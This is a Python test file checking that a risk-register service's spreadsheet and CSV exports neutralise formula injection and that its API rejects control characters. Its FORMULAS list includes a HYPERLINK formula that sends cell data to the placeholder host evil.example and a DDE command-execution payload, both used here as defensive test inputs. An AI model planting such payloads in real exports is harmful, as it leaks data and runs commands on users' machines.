"""No stored text breaks an export, and no export carries a live formula; control characters
are refused at the API boundary, naming the field, in every service."""

import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from services.common.sheets import csv_bytes, workbook_bytes
from services.risk.models import Risk
from tests.risk.conftest import OPS_DIRECTOR, new_risk, risk  # noqa: F401 (fixture)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\tleading tab", "\r=1"]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_formula_looking_text_is_written_as_text_in_xlsx_and_csv():
    from openpyxl import Workbook
    wb = Workbook()
    for text in FORMULAS:
        wb.active.append([text, 42])
    content = workbook_bytes(wb)
    assert "<f>" not in sheet_xml(content)
    back = load_workbook(io.BytesIO(content)).active
    for row, text in zip(back.iter_rows(), FORMULAS, strict=True):
        assert row[0].data_type == "s" and row[0].quotePrefix, text
        assert row[0].value == text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert row[1].value == 42 and not row[1].quotePrefix
    import csv
    read = [row[0] for row in csv.reader(io.StringIO(csv_bytes([[t] for t in FORMULAS]).decode("utf-8-sig"),
                                                     newline=""))]
    assert read == ["'" + t for t in FORMULAS]


async def test_a_risk_title_with_a_control_character_is_refused_naming_the_field(risk):  # noqa: F811
    for title in ("供应\u0000商", "供应\x1b[31m商", "供应\u0085商"):
        r = await risk.post("/api/risk/risks", headers=OPS_DIRECTOR,
                            json={"title": title, "category": "supply_chain", "unit_id": 11, "description": ""})
        assert r.status_code == 422, (title, r.text)
        assert r.json()["errors"][0]["field"] == "title"
    zh = await risk.post("/api/risk/risks", headers={**OPS_DIRECTOR, "Accept-Language": "zh-CN"},
                         json={"title": "x\u0007", "category": "supply_chain", "unit_id": 11})
    assert zh.json()["detail"].startswith("标题 含有不允许的控制字符（U+0007）")
    listed = await risk.get("/api/risk/risks", headers=OPS_DIRECTOR)
    assert all("\x00" not in r["title"] for r in listed.json()["items"])
    # line breaks and tabs are text, not controls
    ok = await new_risk(risk, description="第一行\n第二行\t备注")
    assert ok["description"] == "第一行\n第二行\t备注"


@pytest.mark.parametrize("path,body,field", [
    ("/api/risk/risks", {"title": "ok", "category": "supply_chain", "unit_id": 11,
                         "contingency": {"steps": [{"title": "a\u0000"}]}}, "contingency.steps.0.title"),
])
async def test_control_characters_are_found_in_nested_fields_and_lists(risk, path, body, field):  # noqa: F811
    r = await risk.post(path, headers=OPS_DIRECTOR, json=body)
    assert r.status_code == 422
    assert r.json()["errors"][0]["field"] == field


async def test_stored_control_characters_and_formulas_do_not_break_the_register_export(risk):  # noqa: F811
    first = await new_risk(risk, title=FORMULAS[0])
    second = await new_risk(risk, title="正常标题")
    # text stored before the boundary refused it (older data, a direct import; PostgreSQL holds no NUL)
    async with risk.app.state.db.writer() as s:
        await s.execute(update(Risk).where(Risk.id == second["id"]).values(description="坏\x0b数据\x1f"))
        await s.commit()
    r = await risk.get("/api/risk/risks/export", headers=OPS_DIRECTOR)
    assert r.status_code == 200, r.text
    assert "<f>" not in sheet_xml(r.content)
    ws = load_workbook(io.BytesIO(r.content)).active
    titles = {row[1].value: row[1] for row in ws.iter_rows(min_row=2)}
    assert titles[FORMULAS[0]].data_type == "s" and titles[FORMULAS[0]].quotePrefix
    descriptions = [row[2].value for row in ws.iter_rows(min_row=2)]
    assert "坏\ufffd数据\ufffd" in descriptions
    assert first["id"] != second["id"]


async def test_a_control_character_in_a_query_parameter_is_refused_naming_it(risk):  # noqa: F811
    # PostgreSQL refuses a NUL in text outright: found by schemathesis as a 500 on kpi's lists
    r = await risk.get("/api/risk/risks", params={"q": "供应\x00商"}, headers=OPS_DIRECTOR)
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["field"] == "q"
    assert (await risk.get("/api/risk/risks", params={"q": "供应商 A/B"}, headers=OPS_DIRECTOR)).status_code == 200
